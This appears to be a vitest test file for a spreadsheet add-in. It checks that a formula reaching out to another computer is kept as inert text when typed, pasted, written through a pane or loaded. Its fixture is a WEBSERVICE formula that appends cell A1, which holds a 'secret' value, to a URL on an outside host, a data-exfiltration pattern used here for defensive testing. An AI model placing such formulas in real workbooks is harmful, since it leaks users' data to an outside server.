import { SetRangeValuesCommand, SetRangeValuesMutation } from "@univerjs/sheets";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { keepSnapshotAsText } from "../../../addin/standalone/grid/keepAsText.ts";
import { toSnapshot } from "../../../addin/standalone/grid/toSnapshot.ts";
import type { HeadlessGrid } from "./headless.ts";
import { openHeadless } from "./headless.ts";

const asking = '=WEBSERVICE("http://example.org/?"&A1)';
const content = { sheets: [{ name: "First", cells: [[{ value: "secret" }]] }] };

describe("a formula that would ask another computer", () => {
  let grid: HeadlessGrid;
  let told: string[];

  beforeEach(() => {
    grid = openHeadless(content);
    told = [];
    grid.workbook.onKeptAsText((formula, why) => told.push(`${why}: ${formula}`));
  });

  afterEach(() => {
    grid.close();
  });

  const cellAt = (row: number, column: number) => grid.workbook.content().sheets[0]?.cells[row]?.[column];

  it("typed into a cell becomes text, and is told", async () => {
    await grid.command(SetRangeValuesCommand.id, {
      unitId: grid.unit.unitId,
      subUnitId: "sheet-1",
      range: { startRow: 1, endRow: 1, startColumn: 1, endColumn: 1 },
      value: { f: asking },
    });
    expect(cellAt(1, 1)).toEqual({ value: asking });
    expect(told).toContain(`asks: ${asking}`);
  });

  it("pasted or filled into cells becomes text", async () => {
    await grid.command(SetRangeValuesMutation.id, {
      unitId: grid.unit.unitId,
      subUnitId: "sheet-1",
      cellValue: { 2: { 0: { f: asking }, 1: { f: "=SUM(1,2)" } } },
    });
    expect(cellAt(2, 0)).toEqual({ value: asking });
    expect(cellAt(2, 1)?.formula).toBe("=SUM(1,2)");
    expect(told).toContain(`asks: ${asking}`);
  });

  it("written through the pane becomes text, and is taken back in one step", async () => {
    await grid.workbook.apply("Write", [
      { kind: "cells", at: { sheet: "First", row: 3, column: 0 }, cells: [[{ formula: asking }]] },
    ]);
    expect(cellAt(3, 0)).toEqual({ value: asking });
    await grid.workbook.undo();
    expect(cellAt(3, 0)).toBeUndefined();
  });

  it("in a kept workbook becomes text, and texts are no longer than a cell holds", () => {
    const snapshot = toSnapshot(
      { sheets: [{ name: "First", cells: [[{ formula: asking }, { value: "x ".repeat(20_000) }]] }] },
      "kept",
    );
    keepSnapshotAsText(snapshot);
    const cells = snapshot.sheets["sheet-1"]?.cellData?.[0];
    expect(cells?.[0]).toMatchObject({ v: asking, f: null });
    expect(String(cells?.[1]?.v)).toHaveLength(32_767);
  });
});
